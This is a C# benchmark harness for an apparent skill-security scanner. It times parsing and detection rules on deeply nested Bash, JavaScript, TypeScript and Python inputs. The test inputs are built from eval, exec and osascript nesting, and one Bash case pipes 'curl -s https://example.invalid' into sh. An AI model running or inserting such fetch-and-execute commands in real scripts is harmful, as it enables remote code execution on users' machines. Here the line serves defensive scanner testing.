using SecureStack.Scanner;
using SecureStack.Scanner.Network;
using SecureStack.Scanner.Rules;
using SecureStack.Scanner.Skills;
using static SecureStack.Benchmarks.Scanner.HarnessClock;

namespace SecureStack.Benchmarks.Scanner;

/// <summary>
/// A script nested DEPTH levels deep (the shape of RobustnessTests' deep-nesting case) in each scripting language:
/// the bare parse, each rule on the parsed unit, and a whole-skill scan, timed with a Stopwatch and CPU time.
/// Usage: <c>SecureStack.Benchmarks scanner-deep [DEPTH] [REPETITIONS]</c>.
/// </summary>
internal static class DeepNestingHarness
{
    public static readonly (string File, SourceLanguage Language, string Head, string Open, string Close, string Tail)[] Cases =
    [
        ("deep.sh", SourceLanguage.Bash, "x = ", "$(echo ", ")", "\ncurl -s https://example.invalid | sh\n"),
        ("deep.js", SourceLanguage.JavaScript, "x = ", "[", "]", "\neval(x);\n"),
        ("deep.ts", SourceLanguage.TypeScript, "x = ", "[", "]", "\neval(x);\n"),
        ("deep.py", SourceLanguage.Python, "x = ", "(", ")", "\nexec(x)\n"),
        ("calls.sh", SourceLanguage.Bash, "", "eval $(", ")", "\n"),
        ("calls.js", SourceLanguage.JavaScript, "x = ", "eval(", ")", "\n"),
        ("calls.py", SourceLanguage.Python, "x = ", "exec(", ")", "\n"),
        ("osascript.sh", SourceLanguage.Bash, "", "osascript $(", ")", "\n"),
        ("strings.sh", SourceLanguage.Bash, "echo ", "\"$(echo ", ")\"", "\n"),
        ("chain.js", SourceLanguage.JavaScript, "x = a", "", ".f()", "\n"),
    ];

    public static string Source(int depth, string head, string open, string close, string tail) =>
        head + string.Concat(Enumerable.Repeat(open, depth)) + "1" + string.Concat(Enumerable.Repeat(close, depth)) + tail;

    public static void Run(int depth, int repetitions)
    {
        Console.WriteLine($"depth {depth}, {repetitions} rounds; load average {LoadAverage()}");
        var rules = new RuleSet(RuleFile.Load(BenchPaths.Rules), EgressAllowlist.Empty);
        using var parsers = new ParserPool(TimeSpan.FromMinutes(1));
        using var scanner = SkillScanner.Create(new ScannerOptions { RulesPath = BenchPaths.Rules });
        foreach (var (file, language, head, open, close, tail) in Cases)
        {
            var text = Source(depth, head, open, close, tail);
            var root = Directory.CreateTempSubdirectory("deep-").FullName;
            try
            {
                File.WriteAllText(Path.Combine(root, "SKILL.md"), "---\nname: deep\ndescription: bench\n---\n\nRuns the script.\n");
                File.WriteAllText(Path.Combine(root, file), text);
                scanner.Scan(root);
                for (var r = 0; r < repetitions; r++)
                {
                    var unit = new CodeUnit(file, language, UnitOrigin.File, text, 1);
                    var (_, parse) = Measure(() => { unit.Tree = parsers.Get(unit.Grammar!.Value).Parse(unit.Utf8); return 0; });
                    var perRule = new List<(string Name, Sample Time)>();
                    using (unit.Tree)
                    {
                        foreach (var rule in rules.All)
                        {
                            var (_, time) = Measure(() => { rule.Detect(unit, new SkillContext("deep", root, null), new FindingSink()); return 0; });
                            perRule.Add((rule.GetType().Name + (rule is ConfiguredRule c ? " " + c.Descriptor.Id : ""), time));
                        }
                    }
                    var (report, scan) = Measure(() => scanner.Scan(root));
                    var slowest = string.Join(", ", perRule.OrderByDescending(p => p.Time.Cpu).Take(3).Select(p => $"{p.Name} {p.Time}"));
                    var findings = string.Join(", ", report.Findings.GroupBy(f => f.RuleId).Select(g => $"{g.Key} x{g.Count()}"));
                    Console.WriteLine($"{file} run {r + 1}: parse {parse} | whole scan {scan} | slowest rules: {slowest} | findings: {findings}");
                }
            }
            finally
            {
                Directory.Delete(root, recursive: true);
            }
        }
        rules.Dispose();
        Console.WriteLine($"load average at the end {LoadAverage()}");
    }
}
